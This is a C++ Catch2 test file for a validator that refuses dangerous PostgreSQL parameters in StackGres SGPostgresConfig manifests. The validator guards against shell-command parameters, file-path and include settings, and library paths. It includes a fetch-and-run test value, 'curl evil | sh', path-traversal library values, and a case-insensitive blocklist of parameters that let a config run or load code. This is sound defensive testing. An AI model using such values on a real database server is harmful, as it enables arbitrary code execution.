// SGPostgresConfig: what a pusher may not make PostgreSQL run, load, read or write
// (manifests/postgres_parameters.cpp), through the loader and validate().
#include <catch2/catch.hpp>

#include "manifests/loader.hpp"
#include "manifests/postgres_parameters.hpp"

using namespace pgc;
using namespace pgc::manifests;
using Lines = std::vector<std::string>;

namespace {

// An SGPostgresConfig with one parameter (line 7), validated alone.
Lines parameter(const std::string& name, const std::string& value) {
  const std::string text = "apiVersion: stackgres.io/v1\nkind: SGPostgresConfig\nmetadata: {name: p}\nspec:\n"
                           "  postgresVersion: '15'\n  postgresql.conf:\n    \"" +
                           name + "\": '" + value + "'\n";
  auto loaded = parse_text(text, "p.yaml");
  validate(loaded.manifests, loaded.diagnostics);
  Lines out;
  for (const auto& d : loaded.diagnostics) out.push_back(d.str());
  return out;
}

std::string upper(std::string text) {
  for (char& c : text)
    if (c >= 'a' && c <= 'z') c = static_cast<char>(c - 'a' + 'A');
  return text;
}

// "archive_command" → "Archive_Command".
std::string capitalized(std::string text) {
  bool start = true;
  for (char& c : text) {
    if (start && c >= 'a' && c <= 'z') c = static_cast<char>(c - 'a' + 'A');
    start = c == '_';
  }
  return text;
}

}  // namespace

TEST_CASE("regression: parameters PostgreSQL runs a shell command from are refused", "[manifests][postgres_parameters]") {
  for (const char* name : {"archive_command", "restore_command", "archive_cleanup_command", "recovery_end_command",
                           "ssl_passphrase_command"}) {
    INFO(name);
    CHECK(parameter(name, "curl evil | sh") ==
          Lines{"p.yaml:7:5: spec.postgresql.conf." + std::string(name) +
                ": runs a shell command as the postgres user; not settable in an SGPostgresConfig"});
  }
}

TEST_CASE("postgres parameters: generated, every refused name in any case is refused", "[manifests][postgres_parameters]") {
  // PostgreSQL reads ARCHIVE_COMMAND and Archive_Command as archive_command (and Patroni keeps
  // parameters in a case-insensitive dict): a case-sensitive blocklist let them through.
  const auto names = refused_parameter_names();
  REQUIRE(names.size() >= 40);
  for (const auto& name : names) {
    for (const auto& spelled : {name, upper(name), capitalized(name)}) {
      INFO(spelled);
      auto lines = parameter(spelled, "x");
      REQUIRE(lines.size() == 1);
      CHECK(lines[0].starts_with("p.yaml:7:5: spec.postgresql.conf." + spelled + ": "));
      CHECK(lines[0].ends_with(spelled == name ? "" : " (PostgreSQL reads names case-insensitively)"));
    }
  }
  // The ones the issue names, and the others found: include directives, archive_library.
  for (const char* name : {"archive_command", "restore_command", "archive_cleanup_command", "recovery_end_command",
                           "ssl_passphrase_command", "dynamic_library_path", "data_directory", "config_file",
                           "hba_file", "ident_file", "external_pid_file", "unix_socket_directories",
                           "unix_socket_group", "unix_socket_permissions", "promote_trigger_file", "ssl_cert_file",
                           "ssl_key_file", "ssl_ca_file", "ssl_crl_file", "ssl_crl_dir", "ssl_dh_params_file",
                           "krb_server_keyfile", "log_directory", "log_filename", "include", "include_dir",
                           "include_if_exists", "archive_library", "stats_temp_directory"})
    CHECK(std::find(names.begin(), names.end(), name) != names.end());
}

TEST_CASE("postgres parameters: libraries are names in $libdir, never paths", "[manifests][postgres_parameters]") {
  for (const auto& name : library_parameters()) {
    INFO(name);
    CHECK(parameter(name, "pg_stat_statements").empty());
    for (const char* value : {"/tmp/evil", "$libdir/evil", "../../../tmp/evil", "pg_stat_statements,/tmp/evil",
                              "plugins/evil", "a b", "x\"y"}) {
      INFO(value);
      auto lines = parameter(name, value);
      REQUIRE(lines.size() == 1);
      CHECK(lines[0].starts_with("p.yaml:7:5: spec.postgresql.conf." + name +
                                 ": must list library names the hosts' packages install"));
      auto shouted = parameter(upper(name), value);
      CHECK(shouted.size() == 1);
    }
  }
  CHECK(parameter("shared_preload_libraries", "pg_stat_statements, auto_explain").empty());
  CHECK(parameter("shared_preload_libraries", "\"pg_stat_statements\",auto_explain").empty());
  CHECK(parameter("shared_preload_libraries", "").empty());
}

TEST_CASE("postgres parameters: ordinary settings stay settable", "[manifests][postgres_parameters]") {
  for (const char* name : {"work_mem", "shared_buffers", "max_connections", "log_min_duration_statement",
                           "log_line_prefix", "ssl_ciphers", "pg_stat_statements.max", "archive_timeout",
                           "wal_level", "search_path"}) {
    INFO(name);
    CHECK(parameter(name, "8MB").empty());
  }
}
